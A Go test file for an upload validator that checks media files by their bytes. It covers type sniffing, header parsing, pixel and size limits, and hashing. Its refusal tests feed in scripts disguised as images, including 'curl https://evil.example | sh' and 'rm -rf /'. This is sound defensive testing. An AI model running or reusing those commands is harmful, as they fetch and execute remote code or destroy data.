package feedback

import (
	"bytes"
	"crypto/sha256"
	"encoding/binary"
	"errors"
	"fmt"
	"hash/crc32"
	"image"
	"image/color"
	"image/gif"
	"image/jpeg"
	"image/png"
	"io"
	"math/rand/v2"
	"runtime"
	"strings"
	"testing"
	"testing/iotest"

	"github.com/hearthbot/hearth/community"
)

// errorKey is the message key of a domain error, or "".
func errorKey(err error) string {
	if e, ok := errors.AsType[*community.Error](err); ok {
		return e.Key
	}
	return ""
}

func TestSniffMediaTellsTypesByContent(t *testing.T) {
	for _, tc := range []struct {
		name string
		head []byte
		want MediaType
	}{
		{"jpeg", []byte{0xFF, 0xD8, 0xFF, 0xE0, 0, 0x10, 'J', 'F', 'I', 'F', 0, 1}, MediaJPEG},
		{"png", []byte{0x89, 'P', 'N', 'G', 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 0x0D}, MediaPNG},
		{"gif87a", []byte("GIF87a\x01\x00\x01\x00\x00\x00"), MediaGIF},
		{"gif89a", []byte("GIF89a"), MediaGIF},
		{"webp", []byte("RIFF\x24\x00\x00\x00WEBP"), MediaWebP},
		{"mp4 isom", []byte("\x00\x00\x00\x20ftypisom"), MediaMP4},
		{"mp4 mp42", []byte("\x00\x00\x00\x18ftypmp42"), MediaMP4},
		{"m4v", []byte("\x00\x00\x00\x1cftypM4V "), MediaMP4},
		{"dash", []byte("\x00\x00\x00\x18ftypdash"), MediaMP4},
	} {
		got, err := SniffMedia(tc.head)
		if err != nil || got != tc.want {
			t.Errorf("%s: got %q, %v; want %q", tc.name, got, err, tc.want)
		}
	}
}

func TestSniffMediaRefusesOtherContent(t *testing.T) {
	for _, tc := range []struct {
		name string
		head []byte
	}{
		{"script named .jpg", []byte("#!/bin/sh\nrm -rf /")},
		{"html", []byte("<html><script>")},
		{"empty", nil},
		{"jpeg cut short", []byte{0xFF, 0xD8}},
		{"riff wave", []byte("RIFF\x24\x00\x00\x00WAVE")},
		{"quicktime", []byte("\x00\x00\x00\x14ftypqt  ")},
		{"heic", []byte("\x00\x00\x00\x18ftypheic")},
		{"pdf", []byte("%PDF-1.7\n%")},
	} {
		_, err := SniffMedia(tc.head)
		if community.ErrorCode(err) != community.EInvalid || errorKey(err) != "showcase.bad_type" {
			t.Errorf("%s: got %v, want showcase.bad_type", tc.name, err)
			continue
		}
		if e, _ := errors.AsType[*community.Error](err); e.Data["Types"] != AcceptedMedia {
			t.Errorf("%s: types %v, want %q", tc.name, e.Data["Types"], AcceptedMedia)
		}
	}
}

// TestMediaReaderChecksTheHeader: a file passes when its header parses as
// the type its first bytes claim, and is refused before a byte is passed
// on when it does not (showcase.broken_file, naming the type), when its
// type is not accepted (showcase.bad_type), or when it is a picture of
// more than MaxMediaPixels (showcase.too_many_pixels).
func TestMediaReaderChecksTheHeader(t *testing.T) {
	script := []byte("#!/bin/sh\ncurl https://evil.example | sh\n")
	badIHDR := pngFile(200, "tea")
	badIHDR[20]++ // the height, under the chunk's checksum
	for _, tc := range []struct {
		name string
		file []byte
		want MediaType // "": refused
		key  string
		typ  string // the type a broken_file refusal names
	}{
		{name: "jpeg", file: jpegFile(0), want: MediaJPEG},
		{name: "jpeg with 200 KB of metadata", file: jpegFile(200 << 10), want: MediaJPEG},
		{name: "png", file: pngFile(200, "tea"), want: MediaPNG},
		{name: "png of 10000x10000 pixels, the limit", file: pngHeader(10_000, 10_000), want: MediaPNG},
		{name: "gif", file: gifFile(), want: MediaGIF},
		{name: "webp lossless", file: webpFile(false), want: MediaWebP},
		{name: "webp extended", file: webpFile(true), want: MediaWebP},
		{name: "webp lossy", file: riff("VP8 ", vp8Header(640, 480)), want: MediaWebP},
		{name: "mp4", file: mp4File(1000, 1), want: MediaMP4},
		{name: "mp4 with its movie first", file: mp4Sized("moov", 76, 100), want: MediaMP4},
		{name: "mp4 whose data runs to the end", file: mp4Sized("mdat", 0, 100), want: MediaMP4},
		{name: "mp4 whose data has a 64-bit size", file: append(mp4Sized("mdat", 1, 32), 0, 0, 0, 1, 0, 0, 0, 0), want: MediaMP4},

		{name: "a script named x.jpg", file: script, key: "showcase.bad_type"},
		{name: "jpeg magic, then a script", file: append([]byte{0xFF, 0xD8, 0xFF}, script...), key: "showcase.broken_file", typ: "JPEG"},
		{name: "jpeg magic, then zeros", file: append([]byte{0xFF, 0xD8, 0xFF}, make([]byte, 5000)...), key: "showcase.broken_file", typ: "JPEG"},
		{name: "jpeg whose size comes after 300 KB", file: jpegFile(300 << 10), key: "showcase.broken_file", typ: "JPEG"},
		{name: "jpeg cut within its header", file: jpegFile(0)[:40], key: "showcase.broken_file", typ: "JPEG"},
		{name: "png with a corrupt IHDR", file: badIHDR, key: "showcase.broken_file", typ: "PNG"},
		{name: "png magic, then a script", file: append(pngFile(200, "")[:8], script...), key: "showcase.broken_file", typ: "PNG"},
		{name: "png of no pixels", file: pngHeader(0, 10), key: "showcase.broken_file", typ: "PNG"},
		{name: "png of 60000x60000 pixels", file: pngHeader(60_000, 60_000), key: "showcase.too_many_pixels"},
		{name: "png of 10001x10000 pixels", file: pngHeader(10_001, 10_000), key: "showcase.too_many_pixels"},
		{name: "gif magic, then a script", file: append([]byte("GIF89a\x01\x00\x01\x00\x00\x00\x00"), script...), key: "showcase.broken_file", typ: "GIF"},
		{name: "webp magic, then a script", file: append([]byte("RIFF\xff\x00\x00\x00WEBP"), script...), key: "showcase.broken_file", typ: "WebP"},
		{name: "webp of no key frame", file: riff("VP8 ", []byte{1, 2, 3, 4, 5, 6, 7, 8, 9, 10}), key: "showcase.broken_file", typ: "WebP"},
		{name: "webp of 20000x20000 pixels", file: riff("VP8X", vp8xCanvas(20_000, 20_000)), key: "showcase.too_many_pixels"},
		{name: "mp4, then a bogus box", file: mp4Sized("evil", 76, 100), key: "showcase.broken_file", typ: "MP4"},
		{name: "mp4, then a script", file: append(mp4File(100, 1)[:24], script...), key: "showcase.broken_file", typ: "MP4"},
		{name: "mp4 of a tiny ftyp", file: append([]byte("\x00\x00\x00\x0cftypisom"), mp4File(100, 1)[24:]...), key: "showcase.broken_file", typ: "MP4"},
		{name: "mp4 of a huge ftyp", file: append([]byte("\x00\x01\x00\x00ftypisom"), make([]byte, 1<<16)...), key: "showcase.broken_file", typ: "MP4"},
		{name: "mp4 of an ftyp alone", file: mp4File(100, 1)[:24], key: "showcase.broken_file", typ: "MP4"},
		{name: "mp4 whose data box is smaller than its header", file: mp4Sized("mdat", 4, 100), key: "showcase.broken_file", typ: "MP4"},
	} {
		m := NewMediaReader(bytes.NewReader(tc.file), 0)
		n, err := m.Read(make([]byte, 1<<20))
		if tc.want != "" {
			if err != nil || n == 0 || m.Type() != tc.want {
				t.Errorf("%s: read %d bytes as %q, %v; want %q", tc.name, n, m.Type(), err, tc.want)
			}
			continue
		}
		if n != 0 || community.ErrorCode(err) != community.EInvalid || errorKey(err) != tc.key {
			t.Errorf("%s: read %d bytes, %v; want none and %s", tc.name, n, err, tc.key)
			continue
		}
		if e, _ := errors.AsType[*community.Error](err); tc.typ != "" && e.Data["Type"] != tc.typ {
			t.Errorf("%s: %v names the type %v, want %s", tc.name, err, e.Data["Type"], tc.typ)
		}
	}
}

func TestTooManyPixelsNamesThePicturesSize(t *testing.T) {
	_, err := io.ReadAll(NewMediaReader(bytes.NewReader(pngHeader(60_000, 50_000)), 0))
	e, ok := errors.AsType[*community.Error](err)
	if !ok || e.Data["Width"] != 60_000 || e.Data["Height"] != 50_000 || e.Data["Limit"] != 100 {
		t.Fatalf("got %#v; want 60000x50000 against 100 megapixels", err)
	}
}

// TestFixturesAreWholeFiles: the pictures the tests keep decode whole, so
// that the header check is tried on real files, and have the size asked.
func TestFixturesAreWholeFiles(t *testing.T) {
	for name, file := range map[string][]byte{"jpeg": jpegFile(200 << 10), "png": pngFile(4096, "tea"), "gif": gifFile(),
		"webp lossless": webpFile(false), "webp extended": webpFile(true)} {
		if _, _, err := image.Decode(bytes.NewReader(file)); err != nil {
			t.Errorf("%s: %v", name, err)
		}
	}
	if n := len(pngFile(4096, "tea")); n != 4096 {
		t.Errorf("pngFile(4096) is %d bytes", n)
	}
	if n := len(mp4File(4096, 1)); n != 4096 {
		t.Errorf("mp4File(4096) is %d bytes", n)
	}
}

// TestMediaReaderTellsABrokenSourceFromABrokenFile: a download cut within
// the header fails with the source's error, not the member's file's.
func TestMediaReaderTellsABrokenSourceFromABrokenFile(t *testing.T) {
	cut := errors.New("connection reset")
	m := NewMediaReader(io.MultiReader(bytes.NewReader(jpegFile(0)[:40]), iotest.ErrReader(cut)), 0)
	if _, err := m.Read(make([]byte, 100)); !errors.Is(err, cut) || errorKey(err) != "" {
		t.Fatalf("got %v; want the source's error", err)
	}
}

// TestMediaReaderStreamsABigVideo: a 20 MB video passes, its header
// checked, while the reader allocates under 1 MB (about 18 KB): the file
// is never held. Not parallel: the count is the whole process's.
func TestMediaReaderStreamsABigVideo(t *testing.T) {
	const size = DefaultMaxMediaBytes
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	m := NewMediaReader(mp4Stream(size, 3), 0)
	n, err := io.Copy(io.Discard, m)
	runtime.ReadMemStats(&after)
	if err != nil || n != size || m.Type() != MediaMP4 {
		t.Fatalf("passed on %d bytes as %q, %v; want the %d of an MP4", n, m.Type(), err, size)
	}
	allocated := after.TotalAlloc - before.TotalAlloc
	if allocated > 1<<20 { // the header and the hash: kilobytes

		t.Errorf("reading a 20 MB video allocated %d bytes: the file is held, not streamed", allocated)
	}
	t.Logf("reading a %d-byte video allocated %d bytes", size, allocated)
}

func TestMediaReaderPassesTheFileOnAndHashesIt(t *testing.T) {
	file := pngFile(100_000, "tea")
	// One byte at a time: the type is told even when the source gives
	// fewer bytes than SniffLen per read.
	m := NewMediaReader(iotest.OneByteReader(bytes.NewReader(file)), 100_000)
	got, err := io.ReadAll(m)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, file) {
		t.Fatalf("passed on %d bytes, not the file's %d", len(got), len(file))
	}
	md := m.Media()
	if md.Type != MediaPNG || md.Size != 100_000 || md.Hash != MediaHash(sha256.Sum256(file)) {
		t.Fatalf("media %s %d %s; want png, 100000, the file's hash", md.Type, md.Size, md.Hash)
	}
}

func TestMediaReaderRefusesAFileOverTheLimitAsItComes(t *testing.T) {
	file := pngFile(1<<20+1, "tea")
	m := NewMediaReader(bytes.NewReader(file), 1<<20)
	n, err := io.Copy(io.Discard, m)
	if errorKey(err) != "showcase.too_big" {
		t.Fatalf("got %v, want showcase.too_big", err)
	}
	if n > 1<<20 {
		t.Fatalf("passed on %d bytes, more than the limit", n)
	}
	if e, _ := errors.AsType[*community.Error](err); e.Data["Limit"] != "1 MB" {
		t.Fatalf("limit %v, want 1 MB", e.Data["Limit"])
	}
	if _, again := m.Read(make([]byte, 10)); errorKey(again) != "showcase.too_big" {
		t.Fatalf("read after the refusal: %v", again)
	}
}

func TestMediaReaderTakesAFileOfExactlyTheLimit(t *testing.T) {
	m := NewMediaReader(bytes.NewReader(pngFile(4096, "tea")), 4096)
	if n, err := io.Copy(io.Discard, m); err != nil || n != 4096 {
		t.Fatalf("got %d, %v; want 4096 bytes", n, err)
	}
}

func TestMediaReaderRefusesADisguisedFileBeforePassingAByte(t *testing.T) {
	m := NewMediaReader(strings.NewReader("#!/bin/sh\necho pwned\n"), 0)
	buf := make([]byte, 64)
	n, err := m.Read(buf)
	if n != 0 || errorKey(err) != "showcase.bad_type" {
		t.Fatalf("got %d bytes, %v; want none and showcase.bad_type", n, err)
	}
}

func TestMediaReaderRefusesAHeaderPastTheLimitAsTooBig(t *testing.T) {
	file := append([]byte{0xFF, 0xD8, 0xFF}, make([]byte, 5000)...) // broken too
	if _, err := NewMediaReader(bytes.NewReader(file), 1000).Read(make([]byte, 100)); errorKey(err) != "showcase.too_big" {
		t.Fatalf("got %v, want showcase.too_big", err)
	}
}

func TestMediaReaderDefaultLimitIsTelegrams(t *testing.T) {
	if m := NewMediaReader(strings.NewReader(""), 0); m.max != 20<<20 {
		t.Fatalf("default limit %d, want 20 MB", m.max)
	}
}

func TestFormatSize(t *testing.T) {
	for n, want := range map[int64]string{20 << 20: "20 MB", 512 << 10: "512 KB", 1000: "1000 B", 3<<20 + 1: "3145729 B"} {
		if got := FormatSize(n); got != want {
			t.Errorf("FormatSize(%d) = %q, want %q", n, got, want)
		}
	}
}

func TestMediaHashRoundTrip(t *testing.T) {
	h := MediaHash(sha256.Sum256([]byte("tea")))
	got, err := ParseMediaHash(h.String())
	if err != nil || got != h {
		t.Fatalf("got %s, %v; want %s", got, err, h)
	}
	if _, err := ParseMediaHash("abc"); err == nil {
		t.Fatal("a short hash parsed")
	}
}

// The files the tests read: real headers (and, for pictures, whole files
// that decode), built here rather than kept as binaries.

// jpegFile is a 16x16 JPEG picture with meta bytes of metadata (APP1
// segments) before its size, as a camera writes Exif.
func jpegFile(meta int) []byte {
	img := image.NewRGBA(image.Rect(0, 0, 16, 16))
	img.Set(3, 4, color.RGBA{R: 200, A: 255})
	var buf bytes.Buffer
	if err := jpeg.Encode(&buf, img, nil); err != nil {
		panic(err)
	}
	out := []byte{0xFF, 0xD8}
	for meta > 0 {
		n := min(meta, 0xFFFF-2)
		out = append(out, 0xFF, 0xE1)
		out = binary.BigEndian.AppendUint16(out, uint16(n+2))
		out = append(out, bytes.Repeat([]byte{'x'}, n)...)
		meta -= n
	}
	return append(out, buf.Bytes()[2:]...)
}

// pngFile is a 2x2 PNG picture of n bytes: a comment (tEXt) of note,
// padded to the size.
func pngFile(n int, note string) []byte {
	img := image.NewNRGBA(image.Rect(0, 0, 2, 2))
	img.Set(1, 1, color.NRGBA{G: 200, A: 255})
	var buf bytes.Buffer
	if err := png.Encode(&buf, img); err != nil {
		panic(err)
	}
	b := buf.Bytes()
	iend := b[len(b)-12:]
	text := "Comment\x00" + note
	pad := n - len(b) - 12 - len(text)
	if pad < 0 {
		panic(fmt.Sprintf("no PNG of %d bytes", n))
	}
	out := append(b[:len(b)-12:len(b)-12], pngChunk("tEXt", text+strings.Repeat(".", pad))...)
	return append(out, iend...)
}

// pngHeader is the header of a PNG picture of w x h pixels: the
// signature and a well-formed IHDR.
func pngHeader(w, h uint32) []byte {
	ihdr := binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint32(nil, w), h)
	ihdr = append(ihdr, 8, 2, 0, 0, 0) // 8 bits, RGB
	return append([]byte("\x89PNG\r\n\x1a\n"), pngChunk("IHDR", string(ihdr))...)
}

// pngChunk is a PNG chunk of type typ holding data, with its checksum.
func pngChunk(typ, data string) []byte {
	out := binary.BigEndian.AppendUint32(nil, uint32(len(data)))
	out = append(out, typ+data...)
	return binary.BigEndian.AppendUint32(out, crc32.ChecksumIEEE([]byte(typ+data)))
}

// gifFile is a 4x4 GIF picture.
func gifFile() []byte {
	img := image.NewPaletted(image.Rect(0, 0, 4, 4), color.Palette{color.Black, color.White})
	img.SetColorIndex(1, 2, 1)
	var buf bytes.Buffer
	if err := gif.Encode(&buf, img, nil); err != nil {
		panic(err)
	}
	return buf.Bytes()
}

// webpFile is a lossless WebP picture of one black pixel, in the
// extended format (a VP8X chunk first) or the simple one.
func webpFile(extended bool) []byte {
	// The VP8L bitstream: its header, then no transform, no colour cache,
	// one group of prefix codes, each of a single symbol (green, red and
	// blue 0, alpha 255, distance 0), so that the pixel takes no bits.
	var w bitWriter
	w.put(0x2f, 8) // the signature
	w.put(0, 14)   // width - 1
	w.put(0, 14)   // height - 1
	w.put(0, 1)    // no alpha
	w.put(0, 3)    // version 0
	w.put(0, 1)    // no transform
	w.put(0, 1)    // no colour cache
	w.put(0, 1)    // no meta prefix codes
	for _, sym := range []uint32{0, 0, 0, 255, 0} {
		w.put(1, 1) // a simple code
		w.put(0, 1) // of one symbol
		w.put(1, 1) // written in 8 bits
		w.put(sym, 8)
	}
	vp8l := chunk("VP8L", w.bytes())
	if !extended {
		return riffOf(vp8l)
	}
	return riffOf(append(chunk("VP8X", vp8xCanvas(1, 1)), vp8l...))
}

// vp8xCanvas is the data of a VP8X chunk: no features, a w x h canvas.
func vp8xCanvas(w, h uint32) []byte {
	b := make([]byte, 4, 10)
	return append(b, byte(w-1), byte((w-1)>>8), byte((w-1)>>16), byte(h-1), byte((h-1)>>8), byte((h-1)>>16))
}

// vp8Header is the frame header of a lossy WebP key frame of w x h.
func vp8Header(w, h uint16) []byte {
	b := []byte{0x10, 0, 0, 0x9d, 0x01, 0x2a}
	b = binary.LittleEndian.AppendUint16(b, w)
	return binary.LittleEndian.AppendUint16(b, h)
}

// riff is a WebP file of one chunk.
func riff(fourCC string, data []byte) []byte { return riffOf(chunk(fourCC, data)) }

// riffOf is a WebP file of chunks.
func riffOf(chunks []byte) []byte {
	out := append([]byte("RIFF"), binary.LittleEndian.AppendUint32(nil, uint32(4+len(chunks)))...)
	return append(append(out, "WEBP"...), chunks...)
}

// chunk is a RIFF chunk, padded to an even size.
func chunk(fourCC string, data []byte) []byte {
	out := append([]byte(fourCC), binary.LittleEndian.AppendUint32(nil, uint32(len(data)))...)
	out = append(out, data...)
	if len(data)%2 == 1 {
		out = append(out, 0)
	}
	return out
}

// bitWriter packs bits least significant first, as VP8L reads them.
type bitWriter struct {
	out  []byte
	acc  uint64
	nacc uint
}

func (w *bitWriter) put(v uint32, n uint) {
	w.acc |= uint64(v) << w.nacc
	for w.nacc += n; w.nacc >= 8; w.nacc -= 8 {
		w.out = append(w.out, byte(w.acc))
		w.acc >>= 8
	}
}

func (w *bitWriter) bytes() []byte {
	if w.nacc > 0 {
		return append(w.out, byte(w.acc))
	}
	return w.out
}

// mp4Ftyp is an MP4's "ftyp" box: brand isom, compatible with mp41.
const mp4Ftyp = "\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isommp41"

// mp4File is an MP4 video of n bytes: its ftyp, then an "mdat" box of
// bytes from seed.
func mp4File(n int, seed byte) []byte {
	b := mp4Sized("mdat", uint32(n-len(mp4Ftyp)), n)
	for i := len(mp4Ftyp) + 8; i < n; i++ {
		b[i] = seed + byte(i*7)
	}
	return b
}

// mp4Sized is an MP4 header of n bytes: ftyp, then a box of type typ
// whose size field is size, then zeros.
func mp4Sized(typ string, size uint32, n int) []byte {
	b := append([]byte(mp4Ftyp), binary.BigEndian.AppendUint32(nil, size)...)
	b = append(b, typ...)
	return append(b, make([]byte, n-len(b))...)
}

// mp4Stream streams an MP4 video of size bytes, random from seed after
// its header, never holding it.
func mp4Stream(size int64, seed byte) io.Reader {
	head := mp4Sized("mdat", uint32(size-int64(len(mp4Ftyp))), len(mp4Ftyp)+8)
	return io.MultiReader(bytes.NewReader(head), io.LimitReader(rand.NewChaCha8([32]byte{seed}), size-int64(len(head))))
}

// TestFileReaderKeepsAnyType: a file reader keeps a document with the type
// its first bytes show, checks a picture as the showcase does, and
// refuses an empty file and one over the limit.
func TestFileReaderKeepsAnyType(t *testing.T) {
	for _, tc := range []struct {
		name, data, typ, err string
		max                  int64
	}{
		{name: "a PDF", data: "%PDF-1.4\n%\xe2\xe3\xcf\xd3\n", typ: "application/pdf"},
		{name: "a text", data: "order 123, size M\n", typ: "text/plain"},
		{name: "unknown bytes", data: "\x00\x01\x02\x03", typ: "application/octet-stream"},
		{name: "a broken JPEG", data: "\xff\xd8\xff\xe0 not really", err: "showcase.broken_file"},
		{name: "an empty file", data: "", err: "file.empty"},
		{name: "too big", data: strings.Repeat("a", 2000), max: 1000, err: "showcase.too_big"},
	} {
		m := NewFileReader(strings.NewReader(tc.data), tc.max)
		_, err := io.Copy(io.Discard, m)
		if errorKey(err) != tc.err || tc.err == "" && err != nil {
			t.Errorf("%s: %v, want %q", tc.name, err, tc.err)
			continue
		}
		if tc.err == "" && (string(m.Type()) != tc.typ || m.Size() != int64(len(tc.data))) {
			t.Errorf("%s: type %q size %d, want %q", tc.name, m.Type(), m.Size(), tc.typ)
		}
	}
}
